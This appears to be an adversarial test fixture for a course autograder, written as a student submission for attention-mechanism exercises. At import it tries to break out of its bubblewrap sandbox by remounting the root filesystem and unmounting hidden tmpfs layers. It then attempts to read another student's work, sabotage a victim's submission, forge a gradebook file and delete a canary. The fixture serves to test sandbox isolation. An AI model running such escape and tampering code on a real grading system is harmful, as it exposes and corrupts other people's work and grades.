# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#   vidlearn:
#     exercise: ex01
# ---

# %% [markdown]
# Adversarial fixture: remounting the read-only filesystem and unmounting the hiding tmpfs
#
# The worker runs as root inside bubblewrap. With mount(2) (via ctypes) it tries to remount /
# read-write and to lazily unmount the tmpfs that hides the submissions and the gradebook folder.
# If that works it deletes its own canary, plants a file next to the gradebook, reads another
# student's submission and rewrites a victim's submission that is graded later in the same batch.
# It never writes into the repository: it only checks whether it could. Every success is listed
# in the error softmax raises.
#
# Expected scores (softmax, attention, split_heads, merge_heads, var_qk): 2, 4, 1, 1, 2 (all honest answers count)


# %%
import math

import torch

from vidlearn.grading import case, check, hint  # noqa: F401


# %%
# The test harness replaces the next line with the run's settings (ports, paths, tokens).
CONFIG = {}  # @vidlearn-test-config@


# %%
import ctypes
import os
from pathlib import Path

import vidlearn

ESCAPED = []
_libc = ctypes.CDLL(None, use_errno=True)
_MS_REMOUNT, _MS_BIND, _MNT_DETACH = 32, 4096, 2
_token = CONFIG.get("token", "none")
_subs = Path(CONFIG.get("submissions", "/nonexistent"))
_gradebook = Path(CONFIG.get("gradebook", "/nonexistent/gradebook.csv"))
_teacher = Path(CONFIG.get("teacher", "/nonexistent"))
_repo = Path(vidlearn.__file__).resolve().parents[1]

if _libc.mount(None, b"/", None, _MS_REMOUNT | _MS_BIND, None) == 0:
    ESCAPED.append("remounted / read-write")
for _hidden in (_subs, _gradebook.parent):
    if _libc.umount2(str(_hidden).encode(), _MNT_DETACH) == 0:
        ESCAPED.append(f"unmounted the tmpfs over {_hidden.name}")


def _try(what, action):
    try:
        action()
        ESCAPED.append(what)
    except Exception:
        pass


def _read_other():
    marker = "HONEST-" + "MARKER"
    if marker not in (_subs / "ex01_honest.py").read_text():
        raise ValueError


def _tamper_victim():
    victim = _subs / "ex01_victim.py"
    text = victim.read_text()
    victim.write_text(text + "\n\n# %%\ndef softmax(x, dim=-1):\n    return x * 0\n")


def _repo_writable():
    if not os.access(_repo / "vidlearn" / "grading" / "scoring.py", os.W_OK):
        raise PermissionError


_try("deleted the canary", lambda: os.remove(_teacher / "canary_escape.txt"))
def _real(folder):
    """A folder showing files (the gradebook of an earlier run) is the real one, not the empty stand-in."""
    try:
        return bool(os.listdir(folder))
    except OSError:
        return False


if _real(_gradebook.parent):
    _try("planted a file next to the gradebook", lambda: (_gradebook.parent / f"escape_{_token}.csv").write_text("forged"))
_try("read another student's submission", _read_other)
_try("rewrote the victim's submission", _tamper_victim)
_try("could write the grader's own code", _repo_writable)


# %%
def softmax(x, dim=-1):
    if ESCAPED:
        raise RuntimeError("sandbox escape: " + "; ".join(ESCAPED))
    m = x.amax(dim=dim, keepdim=True)
    m = torch.where(m == float("-inf"), torch.zeros_like(m), m)
    e = torch.exp(x - m)
    s = e.sum(dim=dim, keepdim=True)
    return e / torch.where(s == 0, torch.ones_like(s), s)


# %%
check("ex01.softmax", softmax)


# %%
def _good_softmax(x, dim=-1):
    m = x.amax(dim=dim, keepdim=True)
    m = torch.where(m == float("-inf"), torch.zeros_like(m), m)
    e = torch.exp(x - m)
    s = e.sum(dim=dim, keepdim=True)
    return e / torch.where(s == 0, torch.ones_like(s), s)


def scaled_dot_product_attention(q, k, v, mask=None):
    logits = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        logits = logits.masked_fill(~mask, float("-inf"))
    return _good_softmax(logits, dim=-1) @ v


# %%
check("ex01.scaled_dot_product_attention", scaled_dot_product_attention)


# %%
def split_heads(x, n_heads):
    B, L, D = x.shape
    return x.reshape(B, L, n_heads, D // n_heads).transpose(1, 2)


def merge_heads(x):
    B, h, L, e = x.shape
    return x.transpose(1, 2).reshape(B, L, h * e)


# %%
check("ex01.split_heads", split_heads)
check("ex01.merge_heads", merge_heads)


# %%
def var_qk_steps():
    return [
        ("Sum(1, (i, 1, d_k))", "for each i only j = i gives delta_ij^2 = 1; the other terms are 0"),
        ("d_k", "d_k ones"),
    ]


# %%
check("ex01.var_qk", var_qk_steps)
